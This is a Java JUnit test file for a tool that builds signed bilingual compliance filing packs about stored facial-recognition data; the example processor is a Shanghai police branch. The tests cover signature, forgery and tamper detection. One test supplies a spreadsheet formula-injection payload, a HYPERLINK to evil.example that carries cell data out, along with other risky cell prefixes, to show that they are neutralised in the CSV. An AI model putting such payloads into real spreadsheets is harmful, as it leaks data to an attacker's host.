package io.vigil.compliance.internal.filing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vigil.testing.MemorySecretStore;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Instant;
import java.util.List;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A signed pack: written, verified, its PDF readable in both languages, and tampering named. */
class FilingPackTest {

    static final Path FONT = Path.of("/usr/share/fonts/truetype/wqy/wqy-zenhei.ttc");

    @TempDir
    Path dir;

    static FilingContent content(FilingForm form) {
        return new FilingContent("CN", Instant.parse("2025-09-26T02:00:00Z"), List.of(
                new FilingContent.Section("Quantity of facial information stored", "存储的人脸信息数量", List.of(
                        new FilingContent.Row("Distinct individuals", "不同个人数量", "100000"),
                        new FilingContent.Row("Templates", "人脸特征模板", "104990"),
                        new FilingContent.Row("Threshold crossed on", "达到备案门槛日期", "2025-09-26"),
                        new FilingContent.Row("Filing deadline", "备案截止日期", "2025-11-13"))),
                new FilingContent.Section("Processor", "个人信息处理者", List.of(
                        new FilingContent.Row("Processor (organisation) name", "个人信息处理者名称", form.value("processor.name"))))),
                form.missing(), List.of("day", "individuals"), List.of(List.of("2025-09-26", "100000")));
    }

    @Test
    void aPackVerifiesItsPdfReadsInEnglishAndChineseAndATamperedFileIsNamed() throws Exception {
        Path formFile = dir.resolve("form.properties");
        Files.writeString(formFile, "processor.name = 上海市公安局示例分局\npurpose = 追逃\n", StandardCharsets.UTF_8);
        FilingForm form = FilingForm.read(formFile);
        MemorySecretStore secrets = new MemorySecretStore();
        PackSigner signer = PackSigner.fromSecretStore(secrets, "Example Police", new SecureRandom(), Instant.now());
        Path folder = dir.resolve("pack");
        FilingPack.Written w = FilingPack.write(content(form), folder, FONT, signer, Files.readAllBytes(formFile));
        assertTrue(Files.isRegularFile(w.archive()));
        assertTrue(w.files().containsAll(List.of("filing.pdf", "filing.json", "filing.csv", "history.csv", "form.properties",
                FilingPack.MANIFEST, FilingPack.SIGNATURE)));

        PackVerifier.Result ok = PackVerifier.verify(folder);
        assertTrue(ok.ok(), ok.problems().toString());
        assertTrue(ok.signer().contains("Example Police"), ok.signer());
        assertTrue(PackVerifier.verify(w.archive()).ok(), "the archive verifies too");

        // the same key signs the next pack (kept in the secret store)
        PackSigner again = PackSigner.fromSecretStore(secrets, "Example Police", new SecureRandom(), Instant.now());
        assertEquals(PackSigner.fingerprint(signer.certificate()), PackSigner.fingerprint(again.certificate()));
        assertTrue(PackVerifier.verify(folder, PackSigner.fingerprint(signer.certificate())).ok(),
                "signed by this organisation's certificate");

        // someone else's key makes a valid signature too, but not this organisation's
        PackSigner stranger = PackSigner.fromSecretStore(new MemorySecretStore(), "Example Police", new SecureRandom(),
                Instant.now());
        Path forged = dir.resolve("forged");
        FilingPack.write(content(form), forged, FONT, stranger, Files.readAllBytes(formFile));
        assertTrue(PackVerifier.verify(forged).ok(), "on its own the forged pack's signature is valid");
        PackVerifier.Result refused = PackVerifier.verify(forged, PackSigner.fingerprint(signer.certificate()));
        assertFalse(refused.ok());
        assertTrue(refused.problems().get(0).contains("not this organisation's"), refused.problems().toString());

        String text;
        try (PDDocument pdf = Loader.loadPDF(folder.resolve("filing.pdf").toFile())) {
            text = new PDFTextStripper().getText(pdf);
        }
        for (String expected : List.of("Distinct individuals", "不同个人数量", "100000", "Filing deadline", "备案截止日期",
                "2025-11-13", "2025-09-26", "上海市公安局示例分局", "INCOMPLETE", "缺失的必填项", "PIA")) {
            assertTrue(text.contains(expected), "the PDF text has " + expected + ":\n" + text);
        }
        String json = Files.readString(folder.resolve("filing.json"));
        assertTrue(json.contains("\"complete\": false") && json.contains("\"field\": \"pia.reference\""), json);

        Files.writeString(folder.resolve("filing.json"), json.replace("100000", "99999"));
        PackVerifier.Result tampered = PackVerifier.verify(folder);
        assertFalse(tampered.ok());
        assertTrue(tampered.signatureValid(), "the manifest itself is intact");
        assertEquals(List.of("filing.json: changed since it was signed"), tampered.problems());

        Files.writeString(folder.resolve(FilingPack.MANIFEST), Files.readString(folder.resolve(FilingPack.MANIFEST)) + " ");
        PackVerifier.Result manifest = PackVerifier.verify(folder);
        assertFalse(manifest.signatureValid());
        assertTrue(manifest.problems().get(0).startsWith(FilingPack.MANIFEST + " was changed"), manifest.problems().toString());
    }

    @Test
    void aCompleteFormLeavesNothingMissing() throws Exception {
        StringBuilder b = new StringBuilder();
        FilingForm.REQUIRED.forEach(f -> b.append(f.key()).append(" = x\n"));
        Path formFile = dir.resolve("form.properties");
        Files.writeString(formFile, b.toString());
        assertTrue(FilingForm.read(formFile).missing().isEmpty());
        assertEquals(FilingForm.REQUIRED.size(), FilingForm.empty().missing().size());
    }

    /**
     * Issue 19.10: a form value a spreadsheet would run as a formula is written to filing.csv as
     * text (a leading apostrophe), whatever character starts it; other values are unchanged.
     */
    @Test
    void formulaLikeCellsInFilingCsvAreNeutralised() throws Exception {
        Path formFile = dir.resolve("form.properties");
        Files.writeString(formFile, "processor.name = =HYPERLINK(\"http://evil.example/?\"&A1,\"open\")\n", StandardCharsets.UTF_8);
        FilingForm form = FilingForm.read(formFile);
        PackSigner signer = PackSigner.fromSecretStore(new MemorySecretStore(), "Example Police", new SecureRandom(),
                Instant.now());
        Path folder = dir.resolve("pack");
        FilingPack.write(content(form), folder, FONT, signer, Files.readAllBytes(formFile));
        String csv = Files.readString(folder.resolve("filing.csv"), StandardCharsets.UTF_8);
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\""), csv);
        assertFalse(csv.contains(",=HYPERLINK"), csv);
        assertTrue(csv.contains(",100000\r\n"), "plain values stay as they are: " + csv);
        for (String risky : new String[] {"=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"}) {
            String cell = FilingPack.csv(List.of(List.of(risky)));
            assertTrue(cell.startsWith("\uFEFF'" + risky) || cell.startsWith("\uFEFF\"'" + risky), cell);
        }
        assertEquals("\uFEFFsafe\r\n", FilingPack.csv(List.of(List.of("safe"))));
    }
}
